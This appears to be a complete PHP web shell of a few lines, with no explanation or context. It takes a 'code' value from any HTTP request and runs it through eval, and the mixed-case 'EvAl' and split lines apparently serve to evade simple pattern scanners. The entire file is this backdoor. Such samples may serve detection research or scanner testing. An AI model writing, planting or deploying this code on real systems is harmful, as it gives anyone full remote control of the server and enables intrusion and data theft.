<?php
$code = $_REQUEST
    ['code'];
EvAl(
    $code
);
